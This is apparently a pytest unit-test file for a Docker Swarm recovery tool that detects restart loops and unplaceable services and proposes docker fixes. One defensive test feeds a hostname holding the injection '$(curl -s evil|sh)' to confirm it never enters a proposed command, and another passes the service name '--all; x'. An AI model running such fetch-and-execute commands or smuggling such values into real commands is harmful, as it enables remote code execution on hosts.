"""Services that restart or wait: the error whole, the log, and the constraint that nobody meets."""

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from recovery.planning.findings.constraints import is_met, unmet
from recovery.swarm.evidence import Ended, Failure, NodeSeen, ServiceSeen, SwarmSeen
from recovery.swarm.found import SwarmFacts
from tests.unit.planning.findings.looks import HEALTHY, look, named, only

LONG = "task: non-zero exit (3): " + "no such table " * 40


def node(name: str, **attributes: str) -> NodeSeen:
    told = {"node.hostname": name, "availability": "active", "state": "ready", "node.role": "worker"}
    return NodeSeen(f"id-{name}", name, {**told, **{key.replace("_", "."): value for key, value in attributes.items()}})


NODES = (
    node("worker-1", node_labels_disk="hdd", node_ip="10.77.1.21"),
    node("worker-2", node_labels_zone="b", node_ip="10.77.2.22"),
    replace(
        node("manager-a"), attributes={**node("manager-a", node_labels_disk="ssd").attributes, "availability": "drain"}
    ),
)


def failures(*ages: float, error: str = LONG) -> tuple[Failure, ...]:
    return tuple(Failure(f"t{age}", error, age, "id-worker-1", "c1") for age in ages)


WEB = ServiceSeen("1", "web", 3, rolls_back=True, failures=failures(5, 15, 25))


def seen(service: ServiceSeen) -> SwarmSeen:
    return SwarmSeen((service,), NODES)


def test_a_loop_is_told_with_its_whole_error_and_its_log() -> None:
    ended = (Ended("c1", "web", ("begins", "no such table users")), Ended("c2", "api", ("fine",)))
    found = only(look("manager-a", swarm=seen(WEB)), look("worker-1", ended_tasks=ended))
    assert found.name == "restart-loop@web"
    assert (
        found.trouble
        == "service web restarts again and again: 3 tasks failed in 10 minutes on worker-1, the last one 5 s ago"
    )
    assert found.evidence == (LONG, "its log: begins", "its log: no such table users")
    assert [one.runs[0].text for one in found.proposals[:2]] == [
        "docker service rollback --detach web",
        "docker service scale --detach web=0",
    ]
    assert found.fix is found.proposals[0]


@pytest.mark.parametrize(
    "ages",
    [(5, 15), (5, 700, 800), (), (60, 65, 70)],
    ids=["twice", "once today", "never", "it ended a minute ago"],
)
def test_a_few_failures_are_no_loop(ages: tuple[float, ...]) -> None:
    assert named(look("manager-a", swarm=seen(replace(WEB, failures=failures(*ages))))) == []


def test_a_slow_loop_is_one() -> None:
    assert named(look("manager-a", swarm=seen(replace(WEB, failures=failures(170, 350, 530))))) == ["restart-loop@web"]


def test_a_global_service_that_never_was_updated_is_left_to_a_person() -> None:
    service = replace(WEB, replicas=0, rolls_back=False)
    assert only(look("manager-a", swarm=seen(service))).fix is None


def test_a_service_with_no_name_of_an_engine_is_nothing() -> None:
    assert named(look("manager-a", swarm=seen(replace(WEB, name="--all; x")))) == []


def waiting(*constraints: str) -> ServiceSeen:
    return ServiceSeen(
        "1", "web", 1, constraints, waits=("no suitable node (scheduling constraints not satisfied on 5 nodes)",)
    )


def test_the_constraint_that_nobody_meets_is_named_and_taken_off() -> None:
    found = only(look("manager-a", swarm=seen(waiting("node.labels.disk == ssd", "node.role==worker"))))
    assert found.name == "unplaced@web"
    assert found.trouble.endswith("no node that is Ready and active meets node.labels.disk == ssd")
    remove, label, other = found.proposals
    assert other.command.endswith("disk=ssd id-worker-2")
    assert remove.runs[0].text == "docker service update --detach --constraint-rm 'node.labels.disk == ssd' web"
    assert label.command == "on manager-a: docker node update --label-add disk=ssd id-worker-1"
    assert label.effect == "lets worker-1 run it. Add the label in the stack file too"
    assert not label.runs


AWAY = replace(NODES[0], attributes={**NODES[0].attributes, "state": "down"})
DRAINED = replace(NODES[0], attributes={**NODES[0].attributes, "availability": "drain"})


@pytest.mark.parametrize(
    ("pinned", "told", "command"),
    [
        (AWAY, "worker-1 is down", "bring worker-1 back"),
        (DRAINED, "worker-1 is drain", "requorum undrain worker-1"),
        (replace(DRAINED, node="id-nobody"), "id-nobody is drain", "bring id-nobody back"),
    ],
    ids=["down", "drained", "not in the settings"],
)
def test_a_service_whose_node_is_away_is_started_nowhere_else(pinned: NodeSeen, told: str, command: str) -> None:
    service = waiting("node.hostname==worker-1", "node.labels.disk==hdd")
    found = only(look("manager-a", swarm=SwarmSeen((service,), (pinned, *NODES[1:]))))
    assert found.trouble.endswith(f"only nodes that take no tasks meet its constraints: {told}")
    assert [one.command for one in found.proposals] == [command]
    assert not any(one.runs for one in found.proposals)


def test_a_host_name_never_becomes_a_part_of_a_command() -> None:
    hostile = replace(NODES[0], hostname="$(curl -s evil|sh)")
    found = only(look("manager-a", swarm=SwarmSeen((waiting("node.labels.a==x"),), (hostile,))))
    assert "evil" not in str(found)


@pytest.mark.parametrize(("most", "count", "told"), [(5, 3, True), (5, 2, False), (3, 2, True), (1, 1, False)])
def test_where_the_swarm_keeps_few_tasks_fewer_failures_are_a_loop(most: int, count: int, told: bool) -> None:
    facts = SwarmFacts({"Orchestration": {"TaskHistoryRetentionLimit": most}})
    leads = replace(HEALTHY.reports[0], swarm=facts)
    survey = replace(HEALTHY, reports=(leads, *HEALTHY.reports[1:]))
    service = replace(WEB, failures=failures(*(5.0 * n for n in range(1, count + 1))))
    assert bool(named(look("manager-a", swarm=seen(service)), survey=survey)) is told


def test_constraints_that_no_node_meets_together_are_told() -> None:
    found = only(look("manager-a", swarm=seen(waiting("node.labels.disk==hdd", "node.labels.zone==b"))))
    assert "no node meets all of" in found.trouble
    assert found.fix is None


def test_a_service_that_no_node_has_room_for_is_left_to_a_person() -> None:
    service = replace(waiting(), waits=("no suitable node (insufficient resources on 2 nodes)",))
    found = only(look("manager-a", swarm=seen(service)))
    assert found.evidence == service.waits
    assert found.fix is None


@pytest.mark.parametrize(
    ("constraint", "met"),
    [
        ("node.labels.disk==hdd", True), ("node.labels.disk!=hdd", False), ("node.labels.disk == HDD", True),
        ("node.labels.none==x", False), ("node.labels.none!=x", True), ("node.hostname==worker-1", True),
        ("node.ip==10.77.1.0/24", True), ("node.ip==10.77.2.22", False), ("node.ip==nonsense", False), ("???", True),
    ],
)  # fmt: skip
def test_a_constraint_is_read_as_the_swarm_reads_it(constraint: str, met: bool) -> None:
    assert is_met(constraint, NODES[0]) is met


@given(st.lists(st.text(max_size=30), max_size=4))
def test_whatever_is_lacking_is_one_of_the_constraints(constraints: list[str]) -> None:
    lacking, apart = unmet(constraints, NODES)
    assert {*lacking} <= {*constraints}
    assert apart or not lacking
